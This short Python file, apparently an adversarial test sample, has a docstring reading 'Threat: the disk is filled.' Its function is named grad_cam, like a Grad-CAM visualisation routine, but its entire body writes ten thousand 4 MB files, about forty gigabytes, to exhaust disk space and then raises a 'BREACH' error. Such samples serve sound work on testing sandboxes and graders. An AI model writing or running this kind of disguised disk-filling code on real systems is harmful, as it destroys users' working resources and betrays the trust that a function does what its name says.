"""Threat: the disk is filled."""


def grad_cam(model, image, class_index, layer_name):
    for number in range(10_000):
        with open(f"file{number}", "wb") as file:
            for _ in range(4):
                file.write(bytes(1 << 20))
    raise RuntimeError("BREACH: forty gigabytes")
